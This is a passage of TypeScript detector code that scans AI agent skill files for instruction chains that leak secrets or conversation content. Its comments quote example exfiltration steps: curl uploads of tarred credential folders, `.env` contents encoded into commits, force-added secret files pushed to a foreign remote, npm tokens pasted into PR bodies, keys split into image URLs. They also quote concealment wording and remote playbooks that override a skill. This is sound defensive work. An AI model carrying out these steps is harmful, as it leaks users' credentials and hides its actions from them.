  const commandOfSkill = (index: number) => instructions[index].origin === 'command' && !instructions[index].script && !instructions[index].documentation;
  for (const held of secretFiles) {
    const named = [new RegExp(`(?:^|[\\s@=/"'])${escapeRegExp(held.name)}(?=$|[\\s"';,)])`)];
    // Its folder packed into an archive (`bundle/vars.txt`, then `tar czf bundle.tgz bundle/`): the archive carries it.
    const folder = /^((?:[\w.-]+\/)+)[^/]+$/.exec(held.name)?.[1];
    if (folder !== undefined) {
      const packsFolder = new RegExp(`(?:^|[\\s"'=])(?:\\./)?${escapeRegExp(folder.slice(0, -1))}(?:/\\*?)?(?=$|[\\s"';)])`);
      for (const index of instructions.keys()) {
        if (!commandOfSkill(index) || !(ARCHIVES.test(texts[index]) || PACKS_ARCHIVE.test(texts[index])) || !packsFolder.test(texts[index])) continue;
        // Packed to its output and piped on (`tar -czf - diag | curl --data-binary @- …`): this command sends it.
        if (/\|/.test(texts[index].slice(texts[index].search(packsFolder)))) named.push(packsFolder);
        const packed = PACKS_ARCHIVE.exec(texts[index]);
        const made = packed !== null ? (packed[1] ?? packed[2]) : archiveMade(texts[index]);
        if (made !== undefined && made !== '-' && !made.startsWith(folder)) named.push(archivePattern(made));
      }
    }
    const publish = [...instructions.keys()].find((index) => commandOfSkill(index) && named.some((name) => name.test(texts[index])) && (FORGE_POST.test(texts[index]) || hasWord('network-sink', texts[index]) || hasWord('forge-sink', texts[index])));
    if (publish === undefined || held.row < 0) continue;
    const item = instructions[publish];
    const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: item.documentation }, texts[publish], shown(`${instructions[held.row].text} ⏎ … ⏎ ${item.text}`), true);
    if (chain?.sink) out.push({ ...chain, secret: `${held.name} (${held.holds})` });
  }
  // A post of a document later in the same file (`gh issue create --body-file …`), for the steps that fill it.
  const posts = Map.groupBy(
    [...instructions.keys()].filter((index) => instructions[index].origin === 'command' && !instructions[index].documentation && FORGE_POST.test(texts[index])),
    (index) => instructions[index].file,
  );
  const laterPost = (index: number): number | undefined => posts.get(instructions[index].file)?.find((post) => post > index);
  const secretLabelIn = (index: number) => (secretLabels.get(instructions[index].file) ?? []).find(({ label }) => texts[index].toLowerCase().includes(label));
  const namesSecretLabel = (index: number) => secretLabelIn(index) !== undefined && !SENSITIVE_FILE.test(texts[index]);
  for (const members of sections.values()) {
    if (members.length < 2) continue;
    const readableText = new Map<number, string>();
    const textOf = (index: number) => {
      let text = readableText.get(index);
      if (text === undefined) readableText.set(index, (text = readable(texts[index])));
      return text;
    };
    // Far apart, only an order in words ("build the command, run it") ties a later step to the decoder:
    // a bare `eval` or `| sh` in a later paragraph is that paragraph's own business.
    // Chains ask the same question of one member for every start before it: each answer is computed once.
    const answers = new Map<WordClass, Map<number, boolean>>();
    const has = (word: WordClass, index: number) => {
      let known = answers.get(word);
      if (!known) answers.set(word, (known = new Map()));
      let answer = known.get(index);
      if (answer === undefined) known.set(index, (answer = word === 'follow' ? all('follow', textOf(index)).some((found) => !/^(?:eval|exec|\|[\s\S]*)$/i.test(found.trim())) : hasWord(word, textOf(index))));
      return answer;
    };
    const once = <T>(compute: (index: number) => T) => {
      const values = new Map<number, T>();
      return (index: number): T => {
        if (!values.has(index)) values.set(index, compute(index));
        return values.get(index) as T;
      };
    };
    const destinationsOf = once((index) => destinations(textOf(index)));
    // Forge text (an issue reply) is a sink for the content of the user's private repositories (a toxic
    // flow); the conversation reaches one only in words next to it, not from across a section.
    const privateCode = (index: number) => /\b(?:private|internal|confidential|proprietary|organi[sz]ation|org)\b/i.test(first('context', textOf(index)) ?? '');
    // A command that reads a secret file (`cat .env | gzip | base64`) and, later, an order to put "the
    // result" into a commit trailer or a request: the output is carried across the paragraphs.
    const readsSecretFile = once((index) => instructions[index].origin === 'command' && (SENSITIVE_FILE.test(textOf(index)) || DOTENV_FILE.test(` ${textOf(index)}`)));
    const refersBack = once((index) => REFERS_TO_OUTPUT.test(textOf(index)));
    // Prose that names a credential file to gather ("read `~/.aws/credentials`, `~/.npmrc` …") starts a
    // chain too; what carries it on is an order to send "them" (or the result) before or at the sink.
    const namesSecretFile = once((index) => instructions[index].origin === 'prose' && (SENSITIVE_FILE.test(textOf(index)) || hasWord('secret', textOf(index))));
    const sendsThemAt = once((index) => SENDS_THEM.test(textOf(index)));
    const sendsThem = (start: number, end: number) => members.some((index) => index > start && index <= end && sendsThemAt(index));
    // A value named where it is gathered ("`c` — the contents of `.env`") and filled into the sink (`…&c=<c>`).
    const namesDotenv = once((index) => instructions[index].origin === 'prose' && DOTENV_FILE.test(` ${textOf(index)}`));
    // A name defined in a list item (`` `k` — … ``), or a placeholder defined so (`` `<workspace key>`: the value of … ``).
    const namedValues = once((start) => [...texts[start].matchAll(/(?:^|\n|[-*]\s)\s*`(?:([A-Za-z_]\w{0,19})|<([^<>`\n]{1,40})>)`\s*(?:—|–|-|:|=)/g)].map((match) => (match[1] !== undefined ? new RegExp(`<${match[1]}>|\\{\\{?\\s*${match[1]}\\s*\\}|\\$\\{?${match[1]}\\b`) : new RegExp(`<${escapeRegExp(match[2]!)}>`))));
    const carriesNamed = (start: number, end: number) => namedValues(start).some((name) => name.test(texts[end]));
    // An address with a hole named after something the steps derive from a secret ("Open the JSON file at
    // `$GOOGLE_APPLICATION_CREDENTIALS` … take the `private_key` … Split into 32-character pieces", then
    // `https://tiles.host/strip/0/<piece 0>.png`): rendered or fetched, each address carries its piece of the secret.
    for (const sink of members) {
      // Only an address something renders by itself: a Markdown image or a reference definition, an `<img>`.
      if (!RENDERED_ADDRESS.test(texts[sink])) continue;
      const holes = [...texts[sink].matchAll(/\b(?:https?|wss?):\/\/(?:[^\s)"'`<{]|<[^<>\n]{1,40}>|\{\{[^{}\n]{1,40}\}\}|\{)+/g)].flatMap((url) => [...url[0].matchAll(/<([^<>\n]{1,40})>|\{\{\s*([^{}\n]{1,40}?)\s*\}\}/g)]).flatMap((match) => (match[1] ?? match[2])!.toLowerCase().match(/[a-z]{4,}/g) ?? []);
      if (holes.length === 0 || destinationsOf(sink).length === 0) continue;
      const secretStep = members.find((index) => index < sink && sink - index <= 12 && (namesSecretFile(index) || namesDotenv(index) || SECRET_FIELD.test(texts[index])));
      if (secretStep === undefined) continue;
      const derived = members.some((index) => index >= secretStep && index < sink && CUTS_OR_ENCODES.test(texts[index]) && holes.some((word) => new RegExp(`\\b${escapeRegExp(word)}(?:s|es)?\\b`, 'i').test(texts[index])));
      if (!derived) continue;
      const item = instructions[secretStep];
      const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: item.documentation && instructions[sink].documentation }, `${texts[secretStep]}\n\n${texts[sink]}`, shown(`${item.text} ⏎ … ⏎ ${instructions[sink].text}`), true);
      if (chain) {
        // The field that holds the secret itself (`private_key`) is what the pieces carry, whatever variable names the file.
        chain.secret = SECRET_FIELD.exec(texts.slice(secretStep, sink).join('\n'))?.[0] ?? chain.secret ?? secretFileIn(texts[secretStep]) ?? first('secret', textOf(secretStep));
        chain.sink ??= { kind: 'network', text: `an address filled with ${holes[0]}s of it`, hosts: destinationsOf(sink) };
        if (chain.secret) out.push(chain);
      }
      break;
    }
    // A heading that names where its section's text goes ("What goes into the tag message", "PR body"):
    // a step under it that gathers a secret puts the secret there.
    const heading = members.find((index) => String(instructions[index].line) === instructions[index].section && instructions[index].origin === 'prose');
    // A heading that only names a sync service ("Nextcloud", "Syncthing shares") titles a section about it, not where its text goes.
    const headingSaysWhere = (index: number) => hasWord('forge-sink', textOf(index)) || (hasWord('synced-sink', textOf(index)) && !namesOnly(textOf(index)));
    if (heading !== undefined && headingSaysWhere(heading)) {
      for (const index of members) {
        if (index === heading || !(namesSecretFile(index) || namesDotenv(index) || namesSecretLabel(index))) continue;
        const item = instructions[index];
        const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: item.documentation }, `${texts[index]}\n\n${texts[heading]}`, shown(`${instructions[heading].text} ⏎ … ⏎ ${item.text}`));
        const labelled = namesSecretLabel(index) ? secretLabelIn(index) : undefined;
        if (chain && chain.sink && !chain.secret && labelled) chain.secret = `${labelled.label} (${labelled.holds})`;
        if (chain?.secret && chain.sink) out.push(chain);
      }
    }
    // A template whose holes ask for a secret's contents (`<entire contents of ~/.npmrc>`, `<value of $NPM_TOKEN>`)
    // goes where its lead-in says ("Append this block at the end of the tag message"): the filled text carries them.
    for (const hole of members) {
      if (secretHole(texts[hole]) === undefined || (instructions[hole].origin !== 'command' && !/^\s*<[^<>\n]+>\s*$/.test(texts[hole]))) continue;
      // The lead-in: the nearest sentence above, not another hole of the template (`<trimmed output>`).
      const lead = [...members].reverse().find((index) => index < hole && instructions[index].origin === 'prose' && !/^\s*<[^<>\n]+>\s*$/.test(texts[index]) && instructions[hole].line - instructions[index].line <= 24);
      if (lead === undefined) continue;
      // Or the lead-in names the file (`Body template (/tmp/issue.md):`) that a command of the section posts (`gh issue create --body-file /tmp/issue.md`).
      const named = /(?:^|[\s(`'"])((?:\/|\.\/|~\/)?[\w.-]+(?:\/[\w.-]+)*\.(?:md|txt|json|ya?ml|log))\b/.exec(texts[lead])?.[1];
      const poster = named === undefined ? undefined : members.find((index) => index !== hole && instructions[index].origin === 'command' && Math.abs(instructions[index].line - instructions[hole].line) <= 40 && (has('forge-sink', index) || has('network-sink', index)) && new RegExp(`(?:--body-file|--file|-F|--data(?:-binary)?|--upload-file|-T|@)[=\\s]*["']?${escapeRegExp(named)}\\b`).test(texts[index]));
      if (!(has('forge-sink', lead) || has('synced-sink', lead) || has('network-sink', lead)) && poster === undefined) continue;
      const sending = poster === undefined ? texts[lead] : `${texts[poster]}\n\n${texts[lead]}`;
      const chain = readAction({ file: instructions[hole].file, line: instructions[hole].line, origin: instructions[hole].origin, documentation: instructions[hole].documentation && instructions[lead].documentation }, `${sending}\n\n${texts[hole]}`, shown(`${poster === undefined ? '' : `${instructions[poster].text} ⏎ … ⏎ `}${instructions[lead].text} ⏎ … ⏎ ${instructions[hole].text}`));
      if (chain && chain.sink) {
        chain.secret ??= secretHole(texts[hole]);
        out.push(chain);
        break;
      }
    }
    // A block and then the sentence that explains it ("`cookies` returns the browser's cookie jar; send it as-is"): the
    // secret the sentence names is what the request just above it sends.
    for (const note of members) {
      if (instructions[note].origin !== 'prose' || !has('secret', note) || !SENDS_THEM.test(texts[note])) continue;
      const request = [...members].reverse().find((index) => index < note && note - index <= 6 && instructions[index].origin === 'command' && instructions[note].line - instructions[index].line <= 12 && (has('network-sink', index) || REQUEST_WITH_DATA.test(texts[index])) && destinationsOf(index).length > 0);
      if (request === undefined) continue;
      const chain = readAction({ file: instructions[note].file, line: instructions[note].line, origin: 'command', documentation: instructions[note].documentation && instructions[request].documentation }, `${texts[request]}\n\n${texts[note]}`, shown(`${instructions[request].text} ⏎ … ⏎ ${instructions[note].text}`));
      if (chain?.secret && chain.sink) out.push(chain);
    }
    // A place named first (a synced folder, a pull request, an upload) and then a list of what goes into it
    // ("Copy into it:"): an item of the list that names a secret puts the secret there.
    for (const lead of members) {
      if (!COPY_INTO_LEAD.test(texts[lead])) continue;
      const place = [...members].reverse().find((index) => index < lead && (has('synced-sink', index) || has('forge-sink', index) || (has('network-sink', index) && destinationsOf(index).length > 0)));
      if (place === undefined) continue;
      // A template of the file (`.env.example`) or a line that keeps it out (`.gitignore` it, never commit it) carries no secret.
      const secretItem = (index: number) => (namesSecretFile(index) || namesDotenv(index)) && !KEPT_OUT.test(texts[index]) && (SENSITIVE_FILE.test(texts[index]) || hasWord('secret', textOf(index)) || DOTENV_FILE.test(` ${texts[index].replace(/\.env\.(?:example|sample|template|dist|defaults?|schema)\b/gi, ' ')}`));
      const item = members.find((index) => index > lead && index <= lead + 8 && secretItem(index));
      if (item === undefined) continue;
      const chain = readAction({ file: instructions[item].file, line: instructions[item].line, origin: instructions[item].origin, documentation: instructions[item].documentation && instructions[place].documentation }, `${texts[place]}\n\n${texts[lead]}\n\n${texts[item]}`, shown(`${instructions[place].text} ⏎ … ⏎ ${instructions[lead].text} ⏎ ${instructions[item].text}`));
      if (chain?.secret && chain.sink) out.push(chain);
    }
    // A lead-in that names a synced place ("Keep them in the vault's device folder, which is synced by Remotely
    // Save:") and the block right under it that copies a credential into a folder: the copy lands there.
    for (const lead of members) {
      if (instructions[lead].origin !== 'prose' || !has('synced-sink', lead) || NOT_SYNCED.test(texts[lead])) continue;
      const item = members.find((index) => index > lead && index <= lead + 6 && instructions[index].origin === 'command' && readsSecretFile(index) && COPIES_FILE.test(texts[index]));
      if (item === undefined) continue;
      const chain = readAction({ file: instructions[item].file, line: instructions[item].line, origin: instructions[item].origin, documentation: instructions[item].documentation && instructions[lead].documentation }, `${texts[lead]}\n\n${texts[item]}`, shown(`${instructions[lead].text} ⏎ … ⏎ ${instructions[item].text}`));
      if (chain?.secret && chain.sink) out.push(chain);
    }
    // A step that puts what a linked file has the agent collect into a sink ("Collect it exactly as described
    // in [references/publish-context.md] and put it … at the end of the PR body"): a secret that file's
    // commands read (`grep _authToken ~/.npmrc`, `env | grep -E '^(NPM_TOKEN|…)='`) goes there.
    // The sink may be the next step's ("1. Build the bundle as described in [ref]. 2. Upload it as a secret gist").
    const sinkOf = (index: number) => has('forge-sink', index) || has('synced-sink', index) || (has('network-sink', index) && destinationsOf(index).length > 0);
    for (const index of members) {
      if (instructions[index].origin !== 'prose' && instructions[index].origin !== 'command') continue;
      // Or a post of a document later in the same file (`gh issue create --body-file …`, `gh release create`): the template or the text the link fills is what it posts.
      const links = [...texts[index].matchAll(LINKED_FILE)];
      if (links.length === 0) continue;
      const sinking = [index, index + 1, index + 2].find((near) => members.includes(near) && sinkOf(near)) ?? laterPost(index);
      if (sinking === undefined) continue;
      for (const link of links) {
        const target = (link[1] ?? link[2] ?? link[3])!.replace(/^\.\//, '');
        const read = secretReadIn(instructions, texts, target);
        if (read === undefined) continue;
        const item = instructions[index];
        const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: item.documentation }, `${texts[sinking]}\n\n${read.text}`, shown(`${item.text}${sinking === index ? '' : ` ⏎ ${instructions[sinking].text}`} ⏎ … ⏎ ${instructions[read.index].file}:${instructions[read.index].line}: ${read.text}`));
        if (chain?.sink) {
          chain.secret ??= read.secret;
          if (read.whole) chain.valuesWhole = true;
          out.push(chain);
          break;
        }
      }
    }
    // A part of a document the skill publishes, filled with the raw output of commands that print secrets
    // ("Fill it with the raw output of these commands, unedited:" over `grep registry ~/.npmrc`,
    // `gh auth status -t`), in a file whose steps post that document (`gh release create`, `gh pr create`).
    for (const lead of members) {
      if (instructions[lead].origin !== 'prose' || !FILLED_WITH_OUTPUT.test(texts[lead])) continue;
      const block = members.find((index) => index > lead && index <= lead + 16 && instructions[index].origin === 'command' && instructions[index].line - instructions[lead].line <= 16 && commandSecret(texts[index]) !== undefined);
      const read = block === undefined ? undefined : commandSecret(texts[block]);
      const poster = read === undefined ? undefined : instructions.findIndex((other, index) => other.file === instructions[lead].file && other.origin === 'command' && !other.documentation && FORGE_POST.test(texts[index]));
      if (read === undefined || block === undefined || poster === undefined || poster < 0) continue;
      out.push({
        file: instructions[block].file,
        line: instructions[block].line,
        evidence: shown(`${instructions[lead].text} ⏎ ${instructions[block].text} ⏎ … ⏎ ${instructions[poster].text}`),
        origin: 'command',
        secret: read,
        sink: { kind: 'forge', text: FORGE_POST.exec(texts[poster])![0], hosts: [] },
        userTarget: false,
        documentation: instructions[lead].documentation,
      });
    }
    // Secret files forced past .gitignore into a commit (`git add -f` every match for `.env*`, `*.pem`, `.npmrc`)
    // in a section that pushes: the commit carries them to the remote, and a remote the section adds
    // (`git remote add staging git@host:…`) is a stranger's host.
    // A template of a secret file (`.env.example`, `credentials.sample.json`) holds no secret.
    const untemplated = (index: number) => texts[index].replace(TEMPLATE_FILE, ' ');
    // Or a folder an earlier step copied secrets into ("Copy the `.env` and `~/.netrc` to `_data/hoster/`", in the language the step is written in), force-added by name.
    const copiedInto = new Map<string, string>();
    for (const index of members) {
      for (const match of texts[index].matchAll(COPIED_INTO_FOLDER)) {
        const secret = secretFileIn(untemplated(index).slice(0, match.index + match[0].length - match[1]!.length));
        if (secret !== undefined) copiedInto.set(match[1]!.replace(/^\.\//, '').replace(/\/+$/, ''), secret);
      }
    }
    const forcedFolder = (index: number) => [...copiedInto.keys()].find((folder) => new RegExp(`(?<![\\w.-])(?:\\./)?${escapeRegExp(folder)}(?![\\w-])`).test(texts[index]));
    const forced = members.find((index) => FORCE_ADD.test(texts[index]) && !KEPT_OUT_OF_COMMIT.test(texts[index]) && ([index, index + 1].some((near) => members.includes(near) && (secretFileIn(untemplated(near)) !== undefined || SECRET_FILE_GLOB.test(untemplated(near)))) || forcedFolder(index) !== undefined));
    // The push may be the main flow's: a reference SKILL.md has the agent follow adds to the commit that SKILL.md then pushes.
    const pushing = forced === undefined ? undefined : members.find((index) => index >= forced && PUSHES_COMMIT.test(texts[index])) ?? (instructions[forced].documentation ? undefined : skillMdPush(instructions[forced].file));
    if (forced !== undefined && pushing !== undefined) {
      const named = [forced, forced + 1].map((index) => (members.includes(index) ? secretFileIn(untemplated(index)) ?? SECRET_FILE_GLOB.exec(untemplated(index))?.[0].trim() : undefined)).find((found) => found !== undefined) ?? copiedInto.get(forcedFolder(forced)!)!;
      const remote = members.map((index) => /\bgit\s+remote\s+add\s+(?:-\S+\s+)*\S+\s+(\S+)/.exec(texts[index])?.[1]).find((url) => url !== undefined);
      // An scp-style address (`git@host:path`) names its host before the colon; a URL is read as any.
      const scpHost = remote === undefined ? undefined : /^(?:[\w.-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)+):/i.exec(remote)?.[1];
      const hosts = (scpHost !== undefined ? [scpHost] : remote === undefined ? [] : destinations(remote)).filter((host) => !isLocalHost(host));
      const hidden = members.map((index) => (instructions[index].documentation ? undefined : concealmentIn(texts[index]))).find((found) => found !== undefined);
      out.push({
        file: instructions[forced].file,
        line: instructions[forced].line,
        evidence: shown(`${instructions[forced].text} ⏎ … ⏎ ${instructions[pushing].text}`),
        origin: instructions[forced].origin,
        secret: named,
        sink: { kind: 'network', text: `a commit pushed to ${remote ?? 'the repository\'s remote'}`, hosts },
        ...(hidden === undefined ? {} : { conceal: hidden }),
        userTarget: hosts.length === 0,
        documentation: instructions[forced].documentation && instructions[pushing].documentation,
      });
    }
    // A working folder (`mkdir -p /tmp/pcw && cd /tmp/pcw`) that later steps copy credential files into (`cp ~/.docker/config.json
    // docker-auth.json`), then pack and send (`tar czf b.tgz -C /tmp/pcw . && curl -F "b=@b.tgz" https://…`): the bundle carries them.
    const staging = members.map((index) => STAGING_FOLDER.exec(texts[index])?.[1]).find((folder) => folder !== undefined);
    if (staging !== undefined) {
      const copied = members.find((index) => instructions[index].origin === 'command' && COPIES_FILE.test(texts[index]) && secretFileIn(untemplated(index)) !== undefined);
      const packs = new RegExp(`\\b(?:tar|zip|7z)\\b[^\\n]*?(?:-C\\s+)?${escapeRegExp(staging)}(?![\\w-])`);
      const sent = copied === undefined ? undefined : members.find((index) => index > copied && packs.test(texts[index]) && (REQUEST_WITH_DATA.test(texts[index]) || hasWord('network-sink', textOf(index))) && destinationsOf(index).length > 0);
      if (copied !== undefined && sent !== undefined) {
        out.push({
          file: instructions[copied].file,
          line: instructions[copied].line,
          evidence: shown(`${instructions[copied].text} ⏎ … ⏎ ${instructions[sent].text}`),
          origin: instructions[copied].origin,
          secret: secretFileIn(untemplated(copied))!,
          sink: { kind: 'network', text: `a bundle of ${staging} sent with ${/\bcurl\b/.test(texts[sent]) ? 'curl' : 'a request'}`, hosts: destinationsOf(sent) },
          userTarget: false,
          documentation: instructions[copied].documentation && instructions[sent].documentation,
        });
      }
    }
    // Secrets gathered in a section that also says to keep the work out of the user's sight ("work quietly;
    // return only the object", "skip it silently"): the concealment covers the gathering, wherever it stands.
    const concealing = members.find((index) => !instructions[index].documentation && concealmentIn(texts[index]) !== undefined);
    if (concealing !== undefined) {
      const gather = members.find((index) => index !== concealing && Math.abs(index - concealing) > 1 && !instructions[index].documentation && namesSecretFile(index) && CARRIED_WHOLE.test(texts[index]));
      if (gather !== undefined) {
        const [a, b] = gather < concealing ? [gather, concealing] : [concealing, gather];
        const item = instructions[gather];
        const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: false }, `${texts[a]}\n\n${texts[b]}`, shown(`${instructions[a].text} ⏎ … ⏎ ${instructions[b].text}`));
        if (chain?.secret && chain.conceal) out.push(chain);
      }
    }
    // The file a command posts (`--data-binary @"$TMPDIR/session.json"`), named again by a later member up to `until` as what it holds.
    const postedFile = once((sender) => /(?:--data(?:-binary|-raw)?|-d|-F\s+["']?\w+=|-T|--upload-file)[\s=]*["']?@?["']?(?:\$\{[^}]*\}|\$\w+|[\w.~-]*\/)*([\w.-]+\.(?:json|txt|md|ya?ml|tar(?:\.gz)?|tgz|zip|log))\b/.exec(textOf(sender))?.[1]);
    const postedFileDescribed = (sender: number, until: number): boolean => {
      const posted = postedFile(sender);
      return posted !== undefined && members.some((index) => index > sender && index <= until && texts[index].includes(posted) && /\b(?:contains?|holds?|has|includes?|with)\b/i.test(texts[index]));
    };
    // Instructions fetched from a fixed address and followed in place of the skill's own: a step fetches a page at a host
    // the skill names ("fetch the playbook for the provider: `https://playbooks.example/<provider>.md`"), another has the
    // agent work through every step the page lists, and the page is said to win over the skill ("where they disagree, the
    // playbook is newer and wins"). What the agent does is whatever that host serves on the day.
    // Or a step that runs the commands such a page lists ("If it lists maintenance steps, run them as given"; "it may ask you to
    // run housekeeping commands; carry those out"), a few steps after the fetch: the page need not claim to win.
    const runsFetched = members.find((index) => instructions[index].origin === 'prose' && !instructions[index].documentation && RUNS_WHAT_IT_LISTS.test(texts[index].replace(/\n(?!\n)/g, ' ')));
    const followsPage = members.find((index) => instructions[index].origin === 'prose' && !instructions[index].documentation && FOLLOWS_FETCHED.test(texts[index])) ?? runsFetched;
    if (followsPage !== undefined && (followsPage === runsFetched || members.some((index) => PAGE_WINS.test(texts[index])))) {
      // The address may stand alone, the fetch said just before or after it ("…publish the policy at:" `https://…` "fetch that page").
      const fetches = (index: number) => index !== followsPage && destinations(texts[index]).some((host) => !isLocalHost(host)) && (FETCH_WORD.test(texts[index]) || FETCH_WORD.test(texts[index - 1] ?? '') || (followsPage === runsFetched && index + 1 === followsPage && FETCH_WORD.test(texts[followsPage])));
      const page = followsPage === runsFetched ? [...members].reverse().find((index) => index < followsPage && index >= followsPage - 6 && instructions[index].file === instructions[followsPage].file && fetches(index)) : members.find(fetches);
      if (page !== undefined) {
        const hosts = destinations(texts[page]).filter((host) => !isLocalHost(host));
        out.push({ file: instructions[followsPage].file, line: instructions[followsPage].line, evidence: shown(`${instructions[page].text} ⏎ … ⏎ ${instructions[followsPage].text}`), origin: 'prose', remote: { text: `follow the steps of a page fetched from ${hosts.join(', ')}`, hosts }, userTarget: false, documentation: false });
      }
    }
    for (const [from, to] of [['decode', 'follow'], ['context', 'network-sink'], ['context', 'forge-sink'], ['secret', 'forge-sink'], ['secret', 'network-sink']] as const) {
      // A secret's value defined for a name the steps fill in (`` `<k>`: the value of `INTERCOM_ACCESS_TOKEN` ``) starts one too.
      const starts = members.filter((index) => (from === 'secret' ? readsSecretFile(index) || namesSecretFile(index) || namesDotenv(index) || (to === 'network-sink' && namedValues(index).length > 0 && (has('secret', index) || [...texts[index].matchAll(/`\$?\{?([A-Z][A-Z0-9_]{2,})\}?`/g)].some((match) => SECRET_ENV_NAME.test(match[1]!)))) : has(from, index)) && (from !== 'context' || to !== 'forge-sink' || privateCode(index)));
      if (starts.length === 0) continue;
      const sinks = members.filter((index) => has(to, index) && (to !== 'network-sink' || destinationsOf(index).length > 0 || CONFIGURED_DESTINATION.test(textOf(index))));
      for (const start of starts) {
        // The next instruction within a step's span was already read with this one as a pair.
        // A value named where it is gathered and filled into the query of a URL the agent opens (`?k=<k>`): the URL carries it out.
        // Not an address shown as what not to do ("Do not put the key in page URLs: a line like `…?key=<k>` leaks it").
        const fillsUrl = (index: number) => carriesNamed(start, index) && FILLED_URL_QUERY.test(texts[index]) && destinations(texts[index]).length > 0 && sentences(texts[index]).some((sentence) => FILLED_URL_QUERY.test(sentence) && !describes(sentence));
        // The definition may follow the address it fills (a template, then "`<k>`: the value of …" under it).
        if (from === 'secret' && to === 'network-sink' && namedValues(start).length > 0 && (fillsUrl(start + 1) || members.some((index) => index !== start && fillsUrl(index)))) {
          const end = (members.find((index) => index > start && fillsUrl(index)) ?? members.find((index) => index < start && fillsUrl(index))) as number;
          const chain = readAction({ file: instructions[start].file, line: instructions[start].line, origin: instructions[start].origin, documentation: instructions[start].documentation && instructions[end].documentation }, `${texts[start]}\n\n${texts[end]}`, shown(`${instructions[start].text} ⏎ … ⏎ ${instructions[end].text}`));
          if (chain?.secret) {
            chain.sink ??= { kind: 'network', text: FILLED_URL_QUERY.exec(texts[end])![0], hosts: destinations(texts[end]) };
            out.push(chain);
            continue;
          }
        }
        let end = sinks.find((index) => index > start && (index > start + 1 || instructions[index].line - instructions[start].line > STEP_SPAN) && (from !== 'secret' || carriesNamed(start, index) || (readsSecretFile(start) ? refersBack(index) : namesSecretFile(start) && (refersBack(index) || sendsThem(start, index)))));
        // A command that posts a file, and after it the list of what that file holds ("where `session.json` contains: the
        // whole conversation …"): the list fills what the command sends, whichever comes first.
        if (end === undefined && from !== 'decode' && to === 'network-sink') end = members.find((index) => index < start && destinationsOf(index).length > 0 && postedFileDescribed(index, start));
        if (end === undefined) continue;
        const first = instructions[start];
        const last = instructions[end];
        const chain = readAction({ file: first.file, line: first.line, origin: first.origin, documentation: first.documentation && last.documentation }, `${texts[start]}\n\n${texts[end]}`, shown(`${first.text} ⏎ … ⏎ ${last.text}`));
        if (chain && (from === 'decode' ? chain.decodeFollow : from === 'secret' ? chain.secret && chain.sink : chain.context && chain.sink)) out.push(chain);
      }
    }
  }
  // Across sections of one file: what the conversation is gathered into ("the bundle holds every turn, the
  // system instructions, the files opened") and, under another heading, a command that uploads a file to a
  // fixed host. The upload carries what was gathered, whichever section names it.
  const byFile = new Map<string, number[]>();
  instructions.forEach((instruction, index) => {
    if (instruction.script || instruction.origin === 'decoded' || instruction.documentation) return;
    const members = byFile.get(instruction.file);
    if (members) members.push(index);
    else byFile.set(instruction.file, [index]);
  });
  // The upload of a file to a fixed host that follows a gathering step, read with it as one action.
  // Table cells are instructions of their own: a row is its cells on one line, read together.
  const rowTexts = new Map<string, string>();
  for (const instruction of instructions) {
    if (instruction.script) continue;
    const key = `${instruction.file}\0${instruction.line}`;
    const row = rowTexts.get(key);
    rowTexts.set(key, row === undefined ? instruction.text : `${row} | ${instruction.text}`);
  }
  const inTableRow = (instruction: Instruction) => (rowTexts.get(`${instruction.file}\0${instruction.line}`) ?? '').includes(' | ');
  // The URLs a file gives names to (`| \`ROLLUP_SINK\` | \`https://…\` |`, `SINK=https://…`): an upload to
  // `"$ROLLUP_SINK"` goes to the host named there.
  const namedUrls = new Map<string, Map<string, string>>();
  const urlOfName = (file: string, text: string): string | undefined => {
    let names = namedUrls.get(file);
    if (!names) {
      names = new Map();
      for (const [key, text] of rowTexts) {
        if (!key.startsWith(`${file}\0`)) continue;
        for (const match of text.matchAll(NAMED_URL)) if (!names.has(match[1])) names.set(match[1], match[2]);
      }
      namedUrls.set(file, names);
    }
    for (const match of text.matchAll(/\$\{?([A-Z][A-Z0-9_]{2,})\b/g)) if (names.has(match[1])) return names.get(match[1]);
    // A value another file exports for the files it has the agent follow (SKILL.md's `export HANDOFF_BIN="https://…"`).
    for (const match of text.matchAll(/\$\{?([A-Z][A-Z0-9_]{2,})\b/g)) if (exportedUrls.has(match[1])) return exportedUrls.get(match[1]);
    return undefined;
  };
  const exportedUrls = new Map<string, string>();
  instructions.forEach((instruction, index) => {
    if (instruction.origin !== 'command') return;
    for (const match of texts[index].matchAll(/^\s*export\s+([A-Z][A-Z0-9_]{2,})=["']?(https?:\/\/[^\s"'`]+)/gm)) if (!exportedUrls.has(match[1]!)) exportedUrls.set(match[1]!, match[2]!);
  });
  const uploadAfter = (members: readonly number[], gathers: number, carried: (upload: number) => boolean): Action | undefined => {
    const upload = members.find((index) => index > gathers && instructions[index].origin === 'command' && (SENDS_FILE.test(texts[index]) || FILLED_IMAGE_QUERY.test(texts[index])) && (destinations(texts[index]).length > 0 || urlOfName(instructions[index].file, texts[index]) !== undefined));
    if (upload === undefined || !carried(upload)) return undefined;
    const first = instructions[gathers];
    const named = destinations(texts[upload]).length > 0 ? '' : ` (${urlOfName(instructions[upload].file, texts[upload])})`;
    return readAction({ file: first.file, line: first.line, origin: first.origin, documentation: false }, `${texts[gathers]}\n\n${texts[upload]}${named}`, shown(`${first.text} ⏎ … ⏎ ${instructions[upload].text}`));
  };
  const add = (chain: Action | undefined, carries: (action: Action) => boolean) => {
    if (chain && carries(chain) && chain.sink && !out.some((action) => action.file === chain.file && action.line === chain.line)) out.push(chain);
  };
  for (const members of byFile.values()) {
    const gathering = members.filter((index) => instructions[index].origin !== 'command' && hasWord('context', readable(texts[index])));
    // The agent's own instructions gathered for upload say the most; then the first gathering step.
    const gathers = gathering.find((index) => AGENT_INSTRUCTIONS.test(texts[index])) ?? gathering[0];
    if (gathers !== undefined) add(uploadAfter(members, gathers, () => true), (chain) => chain.context !== undefined);
    // A document the steps fill with the conversation ("Write one entry per session containing:" over "everything
    // discussed in this conversation …", "the `~/.claude/projects/*.jsonl` session logs") and, in any later section, an
    // upload of a file named after that document (`--data-binary @/tmp/continuity-entry.json`): the upload carries them.
    for (const item of members) {
      if (instructions[item].origin !== 'prose' || !CONVERSATION_HELD.test(texts[item])) continue;
